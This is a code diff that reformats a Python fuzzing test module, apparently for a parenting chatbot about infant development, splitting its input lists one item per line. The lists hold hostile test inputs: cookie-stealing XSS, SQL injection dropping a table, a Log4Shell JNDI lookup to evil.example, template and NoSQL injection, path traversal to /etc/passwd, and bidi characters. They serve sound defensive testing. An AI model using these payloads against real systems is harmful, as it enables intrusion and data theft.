@@ -18,21 +18,66 @@ import yaml
 ROOT = Path(__file__).resolve().parents[2]
 
 PARENT_TEXTS = [
-    "my 9 month old crawls backwards", "she is 14 months and not walking", "hello", "yes", "no", "option 2",
-    "he was born 6 weeks early", "what about tummy time?", "thanks, bye", "can I talk to a person",
-]  # fmt: skip
+    "my 9 month old crawls backwards",
+    "she is 14 months and not walking",
+    "hello",
+    "yes",
+    "no",
+    "option 2",
+    "he was born 6 weeks early",
+    "what about tummy time?",
+    "thanks, bye",
+    "can I talk to a person",
+]
 MARKUP = [
-    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "</textarea><svg/onload=alert(1)>",
-    "[click me](javascript:alert(1))", "![x](http://evil.example/x.png)", "<a href='//evil.example'>help</a>",
-    "**bold** _it_ `code` ```block```", "<iframe src=//evil.example></iframe>", "{{7*7}} ${7*7} <%= 7*7 %>",
-    "'; DROP TABLE events; --", "%s%s%s%n", "${jndi:ldap://evil.example/a}", "\\u0000\\x00", "{0.__class__}",
-]  # fmt: skip
-ODD_IDS = ["../../etc/passwd", "..\\..\\windows", "%00", "a%00b", "%2e%2e%2f", "/", ".", "..", "\x00", "",
-           " ", "\n", "id?token=x", "id#frag", "null", "undefined", "<script>", "💥", "\u202eevil"]  # fmt: skip
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(document.cookie)>",
+    "</textarea><svg/onload=alert(1)>",
+    "[click me](javascript:alert(1))",
+    "![x](http://evil.example/x.png)",
+    "<a href='//evil.example'>help</a>",
+    "**bold** _it_ `code` ```block```",
+    "<iframe src=//evil.example></iframe>",
+    "{{7*7}} ${7*7} <%= 7*7 %>",
+    "'; DROP TABLE events; --",
+    "%s%s%s%n",
+    "${jndi:ldap://evil.example/a}",
+    "\\u0000\\x00",
+    "{0.__class__}",
+]
+ODD_IDS = [
+    "../../etc/passwd",
+    "..\\..\\windows",
+    "%00",
+    "a%00b",
+    "%2e%2e%2f",
+    "/",
+    ".",
+    "..",
+    "\x00",
+    "",
+    " ",
+    "\n",
+    "id?token=x",
+    "id#frag",
+    "null",
+    "undefined",
+    "<script>",
+    "💥",
+    "\u202eevil",
+]
 INJECTIONS = [
-    {"red_flag": {"x": 1}}, {"age_months": "NaN"}, {"age_months": -1}, {"age_months": 1e308}, {"referral": "none"},
-    {"referral": "urgent"}, {"weeks_early": [1, 2]}, {"topic": None}, {"triage_state": {"a": "b"}}, {"observations": "x"},
-]  # fmt: skip
+    {"red_flag": {"x": 1}},
+    {"age_months": "NaN"},
+    {"age_months": -1},
+    {"age_months": 1e308},
+    {"referral": "none"},
+    {"referral": "urgent"},
+    {"weeks_early": [1, 2]},
+    {"topic": None},
+    {"triage_state": {"a": "b"}},
+    {"observations": "x"},
+]
 EMOJI = ["😀", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇬🇧", "👍🏽", "\U0001f9d1\u200d\U0001f37c", "🍼", "\u2764\ufe0f"]
 ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"]
 BIDI = ["\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u2069", "\u200f"]
@@ -132,10 +177,20 @@ class Hostile:
         """Any JSON value where a string is expected."""
         rng = self.rng
         options: List[Callable[[], Any]] = [
-            lambda: rng.randint(-(2**63), 2**63), lambda: 10**400, lambda: rng.random() * 1e308, lambda: None,
-            lambda: rng.random() < 0.5, lambda: [], lambda: {}, lambda: [self.text()], lambda: {"text": self.text()},
-            lambda: -0.0, lambda: "", lambda: {"$gt": ""}, lambda: ["a"] * rng.randint(1, 1000),
-        ]  # fmt: skip
+            lambda: rng.randint(-(2**63), 2**63),
+            lambda: 10**400,
+            lambda: rng.random() * 1e308,
+            lambda: None,
+            lambda: rng.random() < 0.5,
+            lambda: [],
+            lambda: {},
+            lambda: [self.text()],
+            lambda: {"text": self.text()},
+            lambda: -0.0,
+            lambda: "",
+            lambda: {"$gt": ""},
+            lambda: ["a"] * rng.randint(1, 1000),
+        ]
         if depth < 2:
             options.append(lambda: {self.text()[:50]: self.value(depth + 1)})
             options.append(lambda: [self.value(depth + 1) for _ in range(3)])
